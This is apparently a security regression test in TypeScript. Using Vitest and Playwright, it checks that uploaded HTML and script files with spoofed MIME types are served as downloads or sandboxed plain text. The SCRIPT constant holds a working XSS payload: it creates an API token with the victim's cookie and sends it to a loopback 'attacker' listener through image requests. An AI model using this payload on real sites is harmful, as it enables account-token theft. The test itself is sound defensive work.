import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { upload } from '../helpers/files.js';
import { addMember } from '../helpers/members.js';
import { startTestServer, type Client, type TestServer } from '../helpers/server.js';
import { launch, screenshot } from './browser.js';

/**
 * The attack: an editor uploads an HTML page whose multipart part claims `text/plain, text/html` and a script part
 * claiming `text/javascript`; the owner opens the page, which loads the script from our own origin, which creates an
 * API token with the owner's cookie and sends it to the attacker. Replayed in Chromium against the real server.
 */
let server: TestServer;
let browser: Browser;
let page: Page;
let base: string;
let ws: string;
let editor: Client;
let listener: Server;
/** Requests that reached the attacker's loopback listener: any one means attacker content ran or loaded. */
const leaks: string[] = [];
let leakUrl: string;
const downloads: string[] = [];

const tokenCount = async () => Number((await server.db.selectFrom('api_tokens').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);

beforeAll(async () => {
  listener = createServer((request, response) => {
    leaks.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  leakUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  server = await startTestServer();
  base = await server.app.listen({ host: '127.0.0.1', port: 0 });
  ({ workspaceId: ws } = await server.setup('owner@example.com'));
  ({ client: editor } = await addMember(server, ws, 'mallory@example.com', 'editor'));
  browser = await launch();
  page = await browser.newPage({ acceptDownloads: true });
  page.setDefaultTimeout(10_000);
  page.on('download', (download) => downloads.push(download.suggestedFilename()));
  // The owner signs in in the browser: the session cookie is in its jar from now on.
  const login = await page.request.post(`${base}/api/auth/login`, { data: { email: 'owner@example.com', password: 'correct horse' } });
  expect(login.status()).toBe(200);
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  listener?.close();
});

/** What the script does when it runs as the owner: steal a new API token, and say it ran. */
const SCRIPT = (leak: string) => `
document.title = 'script ran';
new Image().src = '${leak}/ran';
fetch('/api/tokens', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'stolen' }) })
  .then((r) => r.json())
  .then((t) => { new Image().src = '${leak}/token?t=' + encodeURIComponent(t.token); });
`;
const PAGE = (scriptUrl: string, leak: string) =>
  `<!doctype html><html><head><title>Q3 report</title></head><body><h1>Q3 report</h1><script src="${scriptUrl}"></script><img src="${leak}/img"></body></html>`;

/** Waits long enough for a script, its fetch and its leak to have happened, had anything run. */
const settle = () => page.waitForTimeout(1500);

describe('an uploaded page that would steal the owner’s API token', () => {
  let scriptUrl: string;

  beforeAll(async () => {
    const script = await upload(editor, ws, 'chart.js', 'text/javascript', SCRIPT(leakUrl));
    expect(script.status, JSON.stringify(script.body)).toBe(201);
    scriptUrl = script.body.url;
  });

  it('is a download when opened by the owner: nothing of it runs and no token is created', async () => {
    const html = await upload(editor, ws, 'report.html', 'text/plain, text/html', PAGE(scriptUrl, leakUrl));
    expect(html.status, JSON.stringify(html.body)).toBe(201);
    const before = await tokenCount();
    // Chromium aborts a navigation that turns into a download.
    await page.goto(`${base}${html.body.url}`).catch(() => undefined);
    await settle();
    expect(leaks).toEqual([]);
    expect(await tokenCount()).toBe(before);
    expect(downloads).toEqual(['report.html']);
  });

  it('shows the same page named .txt as its text, sandboxed: no script runs and no token is created', async () => {
    const txt = await upload(editor, ws, 'report.txt', 'text/html', PAGE(scriptUrl, leakUrl));
    const before = await tokenCount();
    const response = await page.goto(`${base}${txt.body.url}`).catch(() => null);
    await settle();
    expect(leaks).toEqual([]);
    expect(await tokenCount()).toBe(before);
    expect(await page.locator('body').innerText()).toContain(`<script src="${scriptUrl}"></script>`);
    expect(await page.evaluate(() => ({ scripts: document.scripts.length, title: document.title }))).toEqual({ scripts: 0, title: '' });
    await screenshot(page, 'file-attack-txt');
    expect(txt.body.mimeType).toBe('text/plain');
    expect(response!.headers()['content-type']).toBe('text/plain; charset=utf-8');
    expect(response!.headers()['content-security-policy']).toMatch(/^sandbox/);
  });

  it('does not run the script opened on its own either', async () => {
    const before = await tokenCount();
    await page.goto(`${base}${scriptUrl}`).catch(() => undefined);
    await settle();
    expect(leaks).toEqual([]);
    expect(await tokenCount()).toBe(before);
    expect(downloads).toContain('chart.js');
  });
});
